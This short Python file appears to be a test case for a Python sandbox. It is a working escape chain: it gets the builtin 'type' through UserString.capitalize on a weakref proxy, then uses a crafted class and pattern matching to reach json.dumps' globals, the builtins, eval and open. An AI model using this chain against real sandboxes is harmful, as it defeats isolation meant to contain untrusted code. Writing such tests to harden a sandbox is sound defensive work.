# class: classes
# layer: language
# must: not make a class unchecked
import codecs
import collections
import json
import weakref


class Target:
    pass


class D:
    def capitalize(self):
        return Target


class C:
    data = D()


T = collections.UserString.capitalize(weakref.proxy(C))
print(repr(T), T is type(C), T is type)


def inside(value, name):
    H = Maker("H", (codecs.StreamReader,), {"__match_args__": (name,), "__module__": "__main__"})
    match H(value):
        case H(found):
            return found


def Maker(name, bases, ns):
    return T(name, bases, ns)


g = inside(json.dumps, "__globals__")
b = g["__builtins__"]
b = b if isinstance(b, dict) else None
print(list(g)[:5])
print(b["eval"], b["open"], b["eval"]("__import__('sys')._getframe(0)", {"__builtins__": b}))
print(WON)
